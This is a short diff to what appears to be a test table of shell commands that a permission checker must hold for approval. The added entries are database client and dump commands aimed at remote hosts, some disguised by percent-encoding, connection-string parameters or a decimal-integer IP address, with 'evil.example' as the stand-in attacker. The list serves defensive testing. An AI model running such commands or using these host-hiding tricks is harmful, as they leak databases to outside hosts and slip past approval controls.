@@ -245,6 +245,11 @@ ASK = {
         "ssh host ls",
         "scp a host:b",
         "rsync -a . host:/x",
+        "psql -l 'postgresql://db/app?hostaddr=10.1.2.3'",
+        "psql -l 'postgresql:///app?host=%65vil.example'",
+        "pg_dump --dbname=host=evil.example",
+        "pg_dump -dhost=evil.example",
+        "mysqldump -h 134744072 shop",
     ],
     "containers and clusters": [
         "docker run x",
